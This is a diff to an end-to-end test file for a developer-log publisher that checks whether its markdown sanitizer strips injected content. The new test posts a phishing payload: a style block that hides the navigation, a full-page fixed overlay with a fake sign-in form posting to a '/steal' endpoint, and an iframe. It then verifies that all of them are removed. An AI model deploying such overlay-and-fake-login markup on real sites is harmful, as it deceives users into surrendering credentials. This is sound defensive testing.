@@ -1,6 +1,6 @@
 import type { Browser, Page } from 'playwright-core';
 import { closeUsers, createUser, requestSignIn, uniqueEmail, uniqueIp } from './support/auth-fixtures';
-import { baseUrl, laptopViewport, launchBrowser, paintedPicture, phoneViewport, saveScreenshot } from './support/browser';
+import { baseUrl, laptopViewport, launchBrowser, paintedPicture, phoneViewport, saveScreenshot, takeCspViolations } from './support/browser';
 
 jest.setTimeout(180_000);
 
@@ -126,7 +126,41 @@ describe("the Developer's Log publisher", () => {
     expect(await page.locator('article script').count()).toBe(0);
     expect(await page.locator('[onerror]').count()).toBe(0);
     expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
+    // Chromium may report the handler while the sanitizer parses the post: blocked twice over, and the only report.
+    expect(takeCspViolations().filter((report) => !/script-src-attr|inline event handler/.test(report))).toEqual([]);
     await page.context().close();
+  });
+});
+
+describe("a post's markup cannot take over /log", () => {
+  it('drops <style>, style=, forms and iframes from a post that tries a full-page overlay; the page stays usable', async () => {
+    const email = uniqueEmail('dev-log-overlay');
+    await createUser(email, 'admin');
+    const { token } = await requestSignIn(email);
+    const context = await browser.newContext({ viewport: phoneViewport, baseURL: baseUrl(), extraHTTPHeaders: { 'X-Forwarded-For': uniqueIp() } });
+    const session = (await (await context.request.post('/api/auth/redeem', { data: { token } })).json()) as { access_token: string };
+    const title = `Week ${Date.now()}: overlay attempt`;
+    const markdown = [
+      `# ${title}`,
+      'This entry tries to cover the page.',
+      '<style>header, nav { display: none !important } body { overflow: hidden }</style>',
+      '<div class="takeover" style="position:fixed;inset:0;z-index:2147483647;background:#fff;padding:40px">Spark has moved. Sign in again:',
+      '<form action="http://localhost:9/steal" method="post"><input name="email" placeholder="Your e-mail"><button>Sign in</button></form></div>',
+      '<iframe src="http://localhost:9/" width="1000" height="1000"></iframe>',
+    ].join('\n\n');
+    const published = await context.request.post('/api/log/posts', { data: { markdown }, headers: { authorization: `Bearer ${session.access_token}` } });
+    expect(published.status()).toBe(201);
+    const { slug } = (await published.json()) as { slug: string };
+
+    const page = await context.newPage();
+    await page.goto(`/log/${slug}`);
+    await page.getByText('This entry tries to cover the page.').waitFor();
+    expect(await page.locator('article style, article form, article input, article iframe, article [style]').count()).toBe(0);
+    // What lies at the middle of the screen is the post's own text flow, not a layer above the site.
+    expect(await page.evaluate<boolean>("!document.elementFromPoint(innerWidth / 2, innerHeight / 2)?.closest('.takeover, iframe')")).toBe(true);
+    expect(await page.evaluate<string>('getComputedStyle(document.body).overflow')).not.toBe('hidden');
+    await saveScreenshot(page, 'log-post-overlay-attempt-phone');
+    await context.close();
   });
 });
 
